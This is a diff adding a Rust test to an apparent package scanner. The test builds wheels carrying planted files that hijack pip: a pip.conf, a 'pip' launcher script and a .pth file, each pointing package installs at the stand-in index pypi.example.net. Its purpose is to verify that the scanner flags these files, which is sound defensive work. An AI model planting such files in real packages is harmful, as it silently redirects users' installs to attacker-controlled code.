@@ -2604,3 +2604,94 @@ fn install_time_code_is_not_allowed_on_scores_alone() {
     let (_, r) = scan_path_json_under(&c, &veto_off, &plain);
     assert_eq!(r["decision"], "allow", "{r:#}");
 }
+
+/// is-number's files as a wheel (`is_number/...` and a `.dist-info`), with
+/// `added` members after them, written as `name` in the test's folder.
+fn is_number_wheel(c: &Canary, name: &str, added: &[(&str, &[u8])]) -> std::path::PathBuf {
+    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default();
+    let members = tgz_members("packages/benign/is-number-7.0.0.tgz");
+    let own = members
+        .iter()
+        .map(|(p, d)| (p.replacen("package/", "is_number/", 1), d.as_slice()));
+    let info: [(String, &[u8]); 2] = [
+        (
+            "is_number-7.0.0.dist-info/METADATA".into(),
+            b"Metadata-Version: 2.1\nName: is-number\nVersion: 7.0.0\n",
+        ),
+        (
+            "is_number-7.0.0.dist-info/WHEEL".into(),
+            b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        ),
+    ];
+    let added = added.iter().map(|(p, d)| (p.to_string(), *d));
+    for (path, data) in own.chain(info).chain(added) {
+        z.start_file(path, opts).unwrap();
+        z.write_all(data).unwrap();
+    }
+    let p = c.dir.path().join(name);
+    std::fs::write(&p, z.finish().unwrap().into_inner()).unwrap();
+    p
+}
+
+/// pip writes a wheel's `NAME.data/data/` files into the environment's
+/// folder and `NAME.data/scripts/` among its commands, and Python runs a
+/// top-level `.pth` file's import lines at every start. is-number as a
+/// wheel is allowed; with a `pip.conf` that pip installs as the
+/// environment's configuration (checked with pip 23.2: `pip config list`
+/// then shows the planted index), a `pip` launcher over the environment's
+/// own (or a console script that makes pip write one), or a `.pth` that
+/// sets pip's index in every Python process, each was
+/// allowed too (the `.pth` with the veto off; with it on, the veto reads
+/// its `os.environ`). Now the first two are inconclusive whatever
+/// detectors say, and the third is not allowed on scores alone. The same
+/// `pip.conf` in a zip pip does not install as a wheel, or in the
+/// package's own folder, changes nothing.
+#[test]
+fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
+    let c = Canary::new();
+    let veto_off = veto_off_config(&c);
+    let scan = |p: &std::path::Path| scan_path_json_under(&c, &veto_off, p);
+    let conf: &[u8] = b"[global]\nindex-url = https://pypi.example.net/simple\n";
+    let launcher: &[u8] =
+        b"#!/bin/sh\nexec python3 -m pip --index-url https://pypi.example.net/simple \"$@\"\n";
+    let entry: &[u8] = b"[console_scripts]\npip = is_number:main\n";
+    let pth: &[u8] =
+        b"import os; os.environ.setdefault('PIP_INDEX_URL', 'https://pypi.example.net/simple')\n";
+
+    let (o, r) = scan(&is_number_wheel(
+        &c,
+        "is_number-7.0.0-py3-none-any.whl",
+        &[],
+    ));
+    assert_reason(&o, &r, (0, "precheck-harmless"));
+    for (member, data, dir) in [
+        ("is_number-7.0.0.data/data/pip.conf", conf, "own"),
+        ("is_number-7.0.0.data/scripts/pip", launcher, "own"),
+        ("is_number-7.0.0.dist-info/entry_points.txt", entry, "own"),
+        ("is_number_hook.pth", pth, "scores"),
+    ] {
+        let p = is_number_wheel(&c, "planted.whl", &[(member, data)]);
+        let (o, r) = scan(&p);
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let pre = &r["policies"][0]["precheck"];
+        let note = pre["note"].as_str().unwrap();
+        assert!(note.contains(member), "{note}");
+        let (says, reviewed) = match dir {
+            "own" => ("replaces 1 of the environment's own file(s)", false),
+            _ => ("run by themselves", true),
+        };
+        assert!(note.contains(says), "{note}");
+        // A file over the environment's own is put to no detector; one
+        // that runs by itself is theirs to read.
+        let review = r["policies"][0].get("review");
+        assert_eq!(review.is_some(), reviewed, "{r:#}");
+    }
+    for (name, member) in [
+        ("planted.zip", "is_number-7.0.0.data/data/pip.conf"),
+        ("own-folder.whl", "is_number/pip.conf"),
+    ] {
+        let (o, r) = scan(&is_number_wheel(&c, name, &[(member, conf)]));
+        assert_reason(&o, &r, (0, "precheck-harmless"));
+    }
+}
